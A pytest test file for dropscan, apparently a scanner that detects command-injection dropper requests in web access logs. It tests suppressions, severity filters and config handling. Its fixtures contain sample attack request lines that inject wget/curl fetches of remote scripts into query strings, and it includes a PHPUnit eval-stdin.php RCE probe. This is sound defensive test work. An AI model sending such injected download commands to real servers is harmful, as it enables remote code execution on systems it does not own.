"""Noise control: the config file, suppressions with reasons and expiry, --min-severity and
--category. Nothing held back is lost: the summary counts it per rule."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import ROOT, SAMPLE_LOGS, cli_run, combined_line
from dropscan.config import KEYS
from dropscan.errors import UsageError
from dropscan.report.suppress import CRITERIA, Suppression


def dropscan(*args, cwd=None, env=None):
    return subprocess.run(
        [sys.executable, "-m", "dropscan", *args], capture_output=True, text=True, cwd=cwd, env=env, check=False
    )


MONITOR = combined_line("/health?c=;curl%20http://monitor.example.org/ping", client="192.0.2.10")
ATTACK = combined_line("/x?c=;wget%20http://203.0.113.9/a.sh", client="198.51.100.7")
PROBE = combined_line("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", client="198.51.100.8")


@pytest.fixture
def log(tmp_path):
    p = tmp_path / "web1-access.log"
    p.write_bytes(MONITOR + ATTACK + PROBE)
    return p


def write_config(path, text):
    path.write_text(text)
    return str(path)


def scan_json(runner, *args):
    r = cli_run(runner, ["scan", *args, "-f", "jsonl"])
    return r.exit_code, [json.loads(x) for x in r.stdout.splitlines()]


def test_suppression_by_destination_is_counted_per_rule_not_dropped(runner, log, tmp_path):
    cfg = write_config(
        tmp_path / "d.toml",
        """
[[suppress]]
reason = "our monitoring probes itself with curl"
destination = "monitor.example.org"
expires = 2027-06-30
""",
    )
    summary = tmp_path / "s.json"
    code, recs = scan_json(runner, str(log), "--config", cfg, "--summary", str(summary))
    assert code == 1 and [r["client_ip"] for r in recs] == ["198.51.100.7", "198.51.100.8"]
    held = json.loads(summary.read_text())["filtered"]
    assert held["suppressed"] == 1 and held["suppressed_by_rule"] == {"dropper.curl": 1}
    assert held["suppressed_by_entry"] == [
        {"entry": 1, "reason": "our monitoring probes itself with curl", "findings": 1}
    ]
    # on a terminal the summary says it too
    from dropscan.outputs.writers import summary_text

    assert "not reported: 1 suppressed (dropper.curl 1)" in summary_text(json.loads(summary.read_text()))


@pytest.mark.parametrize(
    ("criterion", "kept"),
    [
        ('rule = "dropper.*"', ["198.51.100.8"]),
        ('category = "rce-probe"', ["192.0.2.10", "198.51.100.7"]),
        ('client = "192.0.2.0/24"', ["198.51.100.7", "198.51.100.8"]),
        ('path = "/vendor/*"', ["192.0.2.10", "198.51.100.7"]),
        ('host = "web1"', []),
        ('host = "web2"', ["192.0.2.10", "198.51.100.7", "198.51.100.8"]),
        ('destination = "203.0.113.0/24"', ["192.0.2.10", "198.51.100.8"]),
        ('client = "192.0.2.0/24"\nrule = "dropper.wget"', ["192.0.2.10", "198.51.100.7", "198.51.100.8"]),
    ],
)
def test_each_criterion(runner, log, tmp_path, criterion, kept):
    cfg = write_config(tmp_path / "c.toml", f'[[suppress]]\nreason = "r"\nexpires = 2027-01-01\n{criterion}\n')
    _code, recs = scan_json(runner, str(log), "--config", cfg)
    assert [r["client_ip"] for r in recs] == kept


def test_a_destination_suppression_needs_every_destination_to_match(runner, tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/h?c=;curl%20http://monitor.example.org/a;wget%20http://203.0.113.9/b"))
    cfg = write_config(tmp_path / "c.toml", '[[suppress]]\nreason="r"\nexpires=2027-01-01\ndestination="monitor.*"\n')
    assert len(scan_json(runner, str(p), "--config", cfg)[1]) == 1


def test_expiry_compares_with_the_findings_own_time_never_the_clock(runner, tmp_path):
    p = tmp_path / "access.log"
    before = combined_line("/?c=;wget%20http://203.0.113.9/a", when="[31/Dec/2026:23:59:59 +0000]")
    after = combined_line("/?c=;wget%20http://203.0.113.9/b", when="[01/Jan/2027:00:00:00 +0000]")
    untimed = b'203.0.113.1 - - garbage "GET /?c=;wget%20http://203.0.113.9/c HTTP/1.1" 200 1\n'
    p.write_bytes(before + after + untimed)
    cfg = write_config(tmp_path / "c.toml", '[[suppress]]\nreason="r"\nexpires=2026-12-31\nrule="dropper.*"\n')
    _code, recs = scan_json(runner, str(p), "--config", cfg)
    # through 2026-12-31 (UTC): the first is suppressed; the untimed one is reported (no --now)
    assert recs[0]["request"].endswith("/b HTTP/1.1") and len(recs) == 2
    _code, recs = scan_json(runner, str(p), "--config", cfg, "--now", "2026-06-01T00:00:00Z")
    assert len(recs) == 1  # an explicit --now decides for the untimed finding
    _code, recs = scan_json(runner, str(p), "--config", cfg, "--now", "2027-06-01T00:00:00Z")
    assert len(recs) == 2
    assert datetime.now(UTC).year >= 2026  # whatever today is, the results above do not move


def test_min_severity_and_category_are_counted_too(runner, log, tmp_path):
    summary = tmp_path / "s.json"
    _code, recs = scan_json(runner, str(log), "--min-severity", "critical", "--summary", str(summary))
    assert {r["severity"] for r in recs} == {"critical"} and len(recs) == 2
    assert json.loads(summary.read_text())["filtered"]["below_min_severity"] == 1
    _code, recs = scan_json(runner, str(log), "--category", "rce-probe", "--summary", str(summary))
    assert [r["category"] for r in recs] == ["rce-probe"]
    assert json.loads(summary.read_text())["filtered"]["other_category"] == 2
    p = dropscan("scan", str(log), "--min-severity", "huge")
    assert p.returncode == 2 and p.stderr.startswith("dropscan: error: --min-severity must be one of")


def test_the_table_a_cron_mail_carries_ends_with_what_was_held_back(runner, log, tmp_path):
    cfg = write_config(tmp_path / "c.toml", '[[suppress]]\nreason="m"\nexpires=2030-01-01\nclient="192.0.2.10"\n')
    r = cli_run(runner, ["scan", str(log), "--config", cfg, "--min-severity", "critical", "-f", "table"])
    assert r.stdout.splitlines()[-1] == "not reported: 1 suppressed (dropper.curl 1); 1 below --min-severity"


def test_all_suppressed_exits_0_and_quiet_stays_quiet(runner, log, tmp_path):
    cfg = write_config(tmp_path / "c.toml", '[[suppress]]\nreason="lab"\nexpires=2030-01-01\nhost="web1"\n')
    r = cli_run(runner, ["scan", str(log), "--config", cfg, "-q"])
    assert r.exit_code == 0 and r.stdout == ""


def test_report_and_rules_take_the_same_suppressions(runner, log, tmp_path):
    cfg = write_config(
        tmp_path / "c.toml",
        '[[suppress]]\nreason="monitoring"\nexpires=2030-01-01\ndestination="monitor.example.org"\n',
    )
    rep = json.loads(cli_run(runner, ["report", str(log), "--config", cfg, "-f", "json"]).stdout)
    hosts = [d["host"] for h in rep["hosts"] for d in h["destinations"]]
    assert hosts == ["203.0.113.9"] and rep["scan"]["filtered"]["suppressed_by_rule"] == {"dropper.curl": 1}
    md = cli_run(runner, ["report", str(log), "--config", cfg, "-f", "markdown"]).stdout
    assert "not reported: 1 suppressed (dropper.curl 1)" in md
    rules = cli_run(runner, ["rules", str(log), "--firewall", "nftables", "--config", cfg]).stdout
    assert "203.0.113.9" in rules and "monitor.example.org" not in rules
    assert "monitor.example.org" in cli_run(runner, ["rules", str(log), "--firewall", "nftables"]).stdout


def test_config_file_lookup_order_and_config_show(tmp_path):
    (tmp_path / "dropscan.toml").write_text('min_severity = "high"\njobs = 1\n')
    xdg = tmp_path / "xdg"
    (xdg / "dropscan").mkdir(parents=True)
    (xdg / "dropscan" / "dropscan.toml").write_text('tz = "UTC"\n')
    env = {**os.environ, "XDG_CONFIG_HOME": str(xdg)}
    shown = json.loads(dropscan("config", "show", "-f", "json", cwd=tmp_path, env=env).stdout)
    assert shown["schema_version"] == 1 and shown["config_file"] == "dropscan.toml"
    assert shown["settings"]["min_severity"] == {"value": "high", "from": "dropscan.toml"}
    assert shown["settings"]["tz"] == {"value": None, "from": "default"}  # the first file found is the only one
    (tmp_path / "dropscan.toml").unlink()
    shown = json.loads(dropscan("config", "show", "-f", "json", cwd=tmp_path, env=env).stdout)
    assert shown["settings"]["tz"] == {"value": "UTC", "from": str(xdg / "dropscan" / "dropscan.toml")}
    explicit = tmp_path / "other.toml"
    explicit.write_text('[[suppress]]\nreason = "scanner"\nexpires = 2027-01-01\nclient = "192.0.2.0/24"\n')
    text = dropscan("config", "show", "--config", str(explicit), cwd=tmp_path, env=env).stdout
    assert f"config file: {explicit}" in text and "1 suppression(s)" in text
    assert "#1 client=192.0.2.0/24; until 2027-01-02T00:00:00+00:00; reason: scanner" in text
    # the command line wins over the file
    (tmp_path / "dropscan.toml").write_text('min_severity = "high"\n')
    assert "min_severity" in dropscan("config", "show", cwd=tmp_path, env=env).stdout


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("min_severty = 'high'", "unknown key 'min_severty'"),
        ("jobs = 'two'", "jobs has a value of the wrong type"),
        ("categories = ['droppers']", "categories must be one of"),
        ("[[suppress]]\nexpires = 2027-01-01\nrule = 'x'", "suppress #1: a suppression needs a reason"),
        ("[[suppress]]\nreason = 'x'\nrule = 'x'", "suppress #1: a suppression needs an expiry date"),
        ("[[suppress]]\nreason = 'x'\nexpires = 2027-01-01", "suppress #1: name what it covers"),
        ("[[suppress]]\nreason = 'x'\nexpires = 2027-01-01\nclent = '1.2.3.4'", "unknown key(s) clent"),
        ("[[suppress]]\nreason = 'x'\nexpires = 2027-01-01\nclient = 'nope'", "'nope' is not an address or CIDR"),
        ("jobs = [", "not valid TOML"),
    ],
)
def test_a_bad_config_is_one_line_naming_the_file(tmp_path, text, message):
    cfg = tmp_path / "bad.toml"
    cfg.write_text(text)
    p = dropscan("scan", str(SAMPLE_LOGS), "--config", str(cfg))
    assert p.returncode == 2 and p.stderr.count("\n") == 1
    assert p.stderr.startswith(f"dropscan: error: {cfg}: ") and message in p.stderr
    assert "Traceback" not in p.stderr


def test_missing_explicit_config_is_an_error(tmp_path):
    p = dropscan("config", "show", "--config", str(tmp_path / "nope.toml"))
    assert p.returncode == 2 and "no such config file" in p.stderr


def test_every_key_and_criterion_is_documented():
    doc = (ROOT / "docs" / "config.md").read_text()
    for key in KEYS:
        assert re.search(rf"^\| `{key}` \|", doc, re.M), key
    for c in (*CRITERIA, "reason", "expires"):
        assert re.search(rf"^\| `{c}` \|", doc, re.M), c


VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(), st.text(max_size=30), st.dates(), st.lists(st.text(max_size=5), max_size=2)
)


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(st.sampled_from([*CRITERIA, "reason", "expires", "other"]), VALUES, max_size=6))
def test_any_suppression_table_is_a_suppression_or_one_clear_error(raw):
    """Whatever a config file holds, parsing gives a suppression or a UsageError, never a crash."""
    try:
        s = Suppression.parse(raw, 1)
    except UsageError as e:
        assert str(e).startswith("suppress #1: ")
    else:
        assert s.reason.strip() and s.expires.tzinfo is not None
        assert any(getattr(s, k) is not None for k in CRITERIA)


def test_config_signatures_add_to_the_builtin_pack_relative_to_the_file(tmp_path, monkeypatch):
    from conftest import GOOD_PACK

    (tmp_path / "etc" / "rules").mkdir(parents=True)
    (tmp_path / "etc" / "rules" / "mine.yaml").write_text(GOOD_PACK)
    (tmp_path / "etc" / "dropscan.toml").write_text('signatures = ["rules"]\n')
    log = tmp_path / "access.log"
    log.write_bytes(combined_line("/x?a=;foo") + combined_line("/x?c=;wget%20http://203.0.113.9/a"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    cfg = str(tmp_path / "etc" / "dropscan.toml")
    p = dropscan("scan", str(log), "--config", cfg, "-f", "json", cwd=elsewhere)
    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule", "dropper.wget"]
    p = dropscan("scan", str(log), "--config", cfg, "--no-builtin", "-f", "json", cwd=elsewhere)
    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule"]
    p = dropscan("scan", str(log), "--no-builtin", cwd=elsewhere)
    assert p.returncode == 2 and "--no-builtin needs --signatures" in p.stderr
